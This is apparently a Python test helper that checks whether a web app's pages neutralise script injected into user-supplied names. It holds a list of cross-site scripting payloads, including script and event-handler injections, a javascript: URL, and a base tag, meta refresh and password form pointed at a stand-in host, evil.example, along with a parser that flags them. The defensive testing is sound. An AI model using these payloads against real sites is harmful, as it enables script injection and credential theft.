"""Script as it is put into names, and whether a page keeps it from running."""

from __future__ import annotations

from html.parser import HTMLParser

import httpx2

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "</title><svg onload=alert(1)>",
    "{{7*7}}{% raw %}",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>alert(1)</script>",
]


OURS = {"static/form_post.js"}


class _Elements(HTMLParser):
    """Collects what in a page could run or lead elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag in ("iframe", "object", "embed", "base", "svg", "style", "math"):
            self.found.append(tag)
        if tag == "script" and attributes.get("src") not in OURS:
            self.found.append(f"script {attributes}")
        if tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"meta {attributes}")
        self.found += [f"{tag} {name}" for name in attributes if name.startswith("on")]
        for name in ("href", "src", "action"):
            value = (attributes.get(name) or "").strip().lower()
            if value.startswith(("javascript:", "data:", "vbscript:")) or "evil.example" in value:
                self.found.append(f"{tag} {name}={value}")


def harmless(response: httpx2.Response) -> bool:
    """Whether a page holds no script and no link but our own."""
    elements = _Elements()
    elements.feed(response.text)
    elements.close()
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert elements.found == [], elements.found
    return True
